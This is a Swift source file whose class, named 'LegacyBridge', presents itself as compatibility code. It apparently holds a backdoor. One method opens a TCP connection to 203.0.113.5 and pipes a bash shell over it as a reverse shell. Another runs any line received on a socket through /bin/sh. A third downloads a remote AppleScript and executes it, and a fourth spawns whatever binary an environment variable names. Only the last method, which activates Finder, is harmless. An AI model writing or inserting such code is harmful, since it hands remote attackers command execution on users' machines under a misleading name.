import Foundation
import Network

final class LegacyBridge {
    private let connection = NWConnection(host: "203.0.113.5", port: 8443, using: .tcp)

    func shellOverConnection() throws {
        let input = Pipe()
        let output = Pipe()
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/bash")
        shell.standardInput = input
        shell.standardOutput = output
        connection.receive(minimumIncompleteLength: 1, maximumLength: 4096) { data, _, _, _ in
            if let data { input.fileHandleForWriting.write(data) }
        }
        output.fileHandleForReading.readabilityHandler = { [connection] handle in
            connection.send(content: handle.availableData, completion: .idempotent)
        }
        connection.start(queue: .global())
        try shell.run()
    }

    func legacyTask(from sock: Int32) {
        var buffer = [CChar](repeating: 0, count: 256)
        guard recv(sock, &buffer, 255, 0) > 0 else { return }
        let line = String(cString: buffer)
        _ = Process.launchedProcess(launchPath: "/bin/sh", arguments: ["-c", line])
    }

    func environmentSpawn() {
        guard let tool = ProcessInfo.processInfo.environment["BRIDGE_TOOL"] else { return }
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup(tool), nil]
        posix_spawn(&pid, tool, nil, nil, argv, environ)
    }

    func runRemoteAppleScript() async throws {
        let (data, _) = try await URLSession.shared.data(from: URL(string: "https://scripts.deskassist.example/fix.applescript")!)
        let source = String(decoding: data, as: UTF8.self)
        let script = NSAppleScript(source: source)
        var error: NSDictionary?
        script?.executeAndReturnError(&error)
    }

    func bundledAppleScript() {
        let script = NSAppleScript(source: "tell application \"Finder\" to activate")
        var error: NSDictionary?
        script?.executeAndReturnError(&error)
    }
}
